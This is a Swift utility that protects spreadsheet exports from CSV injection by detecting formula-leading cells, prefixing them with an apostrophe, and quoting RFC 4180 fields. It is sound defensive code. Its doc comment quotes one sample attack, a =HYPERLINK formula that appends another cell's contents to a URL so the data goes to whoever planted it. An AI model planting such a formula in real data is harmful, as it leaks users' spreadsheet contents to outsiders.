/// Text for files that people open in a spreadsheet (CSV and tab-delimited exports).
///
/// A cell whose text starts with `=`, `+`, `-` or `@` (or a tab or carriage return) is run as a formula by
/// Excel, LibreOffice and Google Sheets: a credential's activity title `=HYPERLINK("https://…?"&A2, "open")`
/// would send the sheet's other cells to whoever wrote it (CSV injection, CWE-1236). Exports meant for people
/// write such text *defused*, with a `'` in front: a spreadsheet then takes the cell as text and hides the `'`.
/// Exports meant for another system (a PARS upload) reject the row instead, since they may not change a value.
public enum SpreadsheetText {
    /// Whether a spreadsheet would read `text` as a formula: it starts with `=`, `+`, `-`, `@`, a tab or a
    /// carriage return (the list OWASP gives for CSV injection).
    public static func readsAsFormula(_ text: String) -> Bool {
        guard let first = text.utf8.first else { return false }
        switch first {
        case UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"), UInt8(ascii: "@"), 0x09, 0x0D: return true
        default: return false
        }
    }

    /// `text` with a `'` in front when a spreadsheet would read it as a formula; otherwise `text`.
    public static func defused(_ text: String) -> String {
        readsAsFormula(text) ? "'" + text : text
    }

    /// `text` as one RFC 4180 field: in double quotes, with its quotes doubled, when it holds a comma, a double
    /// quote, a carriage return or a line feed; otherwise as it is.
    public static func csvField(_ text: String) -> String {
        let special = text.utf8.contains {
            $0 == UInt8(ascii: ",") || $0 == UInt8(ascii: "\"") || $0 == 0x0D || $0 == 0x0A
        }
        guard special else { return text }
        var quoted = "\""
        for character in text {
            if character == "\"" { quoted += "\"\"" } else { quoted.append(character) }
        }
        return quoted + "\""
    }
}
